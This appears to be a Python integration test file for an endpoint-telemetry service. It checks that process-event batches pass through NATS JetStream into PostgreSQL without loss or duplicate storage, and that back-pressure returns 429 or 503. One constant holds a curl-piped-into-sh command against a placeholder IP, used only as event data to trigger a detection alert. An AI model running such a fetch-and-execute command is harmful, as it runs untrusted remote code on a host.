"""Ingest through NATS JetStream into PostgreSQL: answered once JetStream holds a batch, stored by `vigil worker`,
nothing lost or stored twice when a worker is killed mid-stream, back-pressure as 429/503 + Retry-After."""

from __future__ import annotations

import asyncio
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from tests.integration.bus.scale_support import WorkerProcess, delete_stream, scaled_server, stream_of
from tests.support import VigilServer, enroll_raw, post_batch, process_event
from vigil.config import load_settings
from vigil.core.clock import SystemClock
from vigil.server.ingest import IngestPipeline
from vigil.server.telemetry_bus import INGEST_CONSUMER, BatchEnvelope, IngestWorker, connect, store_envelope
from vigil.store.db import make_engine

pytestmark = [pytest.mark.postgres, pytest.mark.nats]

CURL_SH = "sh -c 'curl -fsSL http://203.0.113.9/x.sh | sh'"  # raises "Download Piped Into a Shell"


@pytest.fixture
def scaled(tmp_path: Path, pg_database: str, nats_url: str) -> Iterator[VigilServer]:
    srv = scaled_server(tmp_path / "server", pg_database, nats_url, bus_ack_wait_seconds=2)
    srv.start()
    try:
        yield srv
    finally:
        srv.stop()
        asyncio.run(delete_stream(nats_url, stream_of(srv)))


@pytest.fixture
def device(scaled: VigilServer) -> dict[str, str]:
    return dict(enroll_raw(scaled, scaled.onboarding_package(expires="1h")["token"]).json())


def _scalar(srv: VigilServer, sql: str) -> Any:
    engine = make_engine(srv.db_url)
    try:
        with engine.connect() as conn:
            return conn.execute(sa.text(sql)).scalar_one()
    finally:
        engine.dispose()


def _stored(srv: VigilServer) -> tuple[int, int]:
    """(rows, distinct ReportIds) of DeviceProcessEvents: a duplicate shows as rows > distinct."""
    return (_scalar(srv, 'SELECT count(*) FROM "DeviceProcessEvents"'),
            _scalar(srv, 'SELECT count(DISTINCT "ReportId") FROM "DeviceProcessEvents"'))


def _wait_for(check: Any, timeout: float, what: str) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if check():
            return
        time.sleep(0.1)
    raise AssertionError(f"timed out waiting for {what}")


def _batch(did: str, first: int, n: int, marker_every: int = 0) -> list[dict[str, Any]]:
    out = []
    for seq in range(first, first + n):
        if marker_every and seq % marker_every == 0:
            out.append(process_event(did, seq, ProcessCommandLine=CURL_SH, FileName="sh", FolderPath="/usr/bin/dash"))
        else:
            out.append(process_event(did, seq))
    return out


def test_the_agent_is_answered_once_jetstream_holds_the_batch_and_a_worker_stores_it(
        scaled: VigilServer, device: dict[str, str]) -> None:
    did, cred = device["device_id"], device["credential"]
    batch_id = uuid.uuid4().hex
    r = post_batch(scaled, cred, _batch(did, 1, 50, marker_every=10), batch_id)
    assert r.status_code == 200, r.text
    assert r.json() == {"batch_id": batch_id, "accepted": 50, "duplicate": False, "rejected": 0, "rejections": []}
    assert _stored(scaled) == (0, 0)  # no worker yet: held by JetStream, not in the database
    again = post_batch(scaled, cred, _batch(did, 1, 50, marker_every=10), batch_id)  # the agent resends
    assert again.json()["duplicate"] is True
    worker = WorkerProcess(scaled.data_dir, "worker-1")
    worker.start()
    try:
        _wait_for(lambda: _stored(scaled) == (50, 50), 60, "the worker to store the batch")
        _wait_for(lambda: _scalar(scaled, "SELECT count(*) FROM alerts") == 1, 10, "the alert")
        assert _scalar(scaled, "SELECT event_count FROM alerts") == 5
    finally:
        worker.stop()
    assert "1 batches (50 rows) stored" in worker.log.read_text()


def test_workers_killed_mid_stream_lose_nothing_and_store_nothing_twice(
        scaled: VigilServer, device: dict[str, str]) -> None:
    did, cred = device["device_id"], device["credential"]
    batches, size = 40, 500
    for b in range(batches):
        r = post_batch(scaled, cred, _batch(did, 1 + b * size, size, marker_every=100))
        assert r.status_code == 200, r.text
    total, markers = batches * size, batches * size // 100
    workers = [WorkerProcess(scaled.data_dir, f"worker-{i}") for i in (1, 2)]
    for w in workers:
        w.start()
    try:
        _wait_for(lambda: _stored(scaled)[0] >= total // 4, 90, "a quarter of the batches")
        for w in workers:  # both die mid-stream, each probably inside a batch's transaction or before its ack
            w.kill()
        assert _stored(scaled)[0] < total
        replacements = [WorkerProcess(scaled.data_dir, f"worker-{i}b") for i in (1, 2)]
        workers += replacements
        for w in replacements:
            w.start()
        _wait_for(lambda: _stored(scaled)[0] >= total, 120, "every batch")
        time.sleep(3)  # past ack_wait: anything still unacked would come back now and show as a duplicate
        assert _stored(scaled) == (total, total)
        assert _scalar(scaled, "SELECT count(*) FROM telemetry_batches") == batches
        assert _scalar(scaled, "SELECT count(*) FROM alerts") == 1
        assert _scalar(scaled, "SELECT event_count FROM alerts") == markers  # no marker counted twice
    finally:
        for w in workers:
            w.stop()


def test_a_batch_committed_but_not_acked_is_redelivered_and_taken_as_a_duplicate(
        scaled: VigilServer, device: dict[str, str]) -> None:
    """The window a SIGKILL can hit least often, made certain: the batch is in the database, the ack never sent."""
    did, cred = device["device_id"], device["credential"]
    assert post_batch(scaled, cred, _batch(did, 1, 20, marker_every=5)).status_code == 200
    settings = load_settings(scaled.data_dir, env={})
    engine = make_engine(scaled.db_url)
    pipeline = IngestPipeline(engine, SystemClock())

    async def run() -> tuple[int, int, int]:
        crashed = await connect(settings)
        consumer = await crashed.consumer(INGEST_CONSUMER, ack_wait=settings.bus_ack_wait_seconds)
        (delivery,) = await consumer.fetch(1, timeout=5)
        assert store_envelope(pipeline, BatchEnvelope.decode(delivery.data)) == (20, False)
        await crashed.close()  # gone without acking
        bus = await connect(settings)
        worker = IngestWorker(bus, pipeline, ack_wait=settings.bus_ack_wait_seconds)
        task = asyncio.create_task(worker.run())
        for _ in range(100):
            if worker.stats.duplicates:
                break
            await asyncio.sleep(0.1)
        worker.stop()
        await task
        await bus.close()
        return worker.stats.stored, worker.stats.duplicates, delivery.attempt

    try:
        assert asyncio.run(run()) == (0, 1, 1)
        assert _stored(scaled) == (20, 20)
    finally:
        engine.dispose()


def test_a_full_stream_answers_429_and_nats_away_answers_503_both_with_retry_after(
        tmp_path: Path, pg_database: str, nats_url: str) -> None:
    srv = scaled_server(tmp_path / "server", pg_database, nats_url, bus_max_backlog=2)
    srv.start()
    try:
        dev = enroll_raw(srv, srv.onboarding_package(expires="1h")["token"]).json()
        did, cred = dev["device_id"], dev["credential"]
        assert [post_batch(srv, cred, _batch(did, i * 10, 10)).status_code for i in range(2)] == [200, 200]
        full = post_batch(srv, cred, _batch(did, 100, 10))
        assert full.status_code == 429, full.text
        assert full.json()["error"] == "ingest_busy" and full.headers["Retry-After"] == "5"
    finally:
        srv.stop()
        asyncio.run(delete_stream(nats_url, stream_of(srv)))
    toml = srv.data_dir / "vigil.toml"
    toml.write_text(toml.read_text().replace(f'bus_url = "{nats_url}"', 'bus_url = "nats://127.0.0.1:9"'))
    srv.start()  # the server starts with NATS away; each batch meanwhile is refused, never taken and lost
    try:
        down = post_batch(srv, cred, _batch(did, 200, 10))
        assert down.status_code == 503, down.text
        assert down.json()["error"] == "ingest_failed" and down.headers["Retry-After"] == "10"
        assert _stored(srv) == (0, 0)
    finally:
        srv.stop()
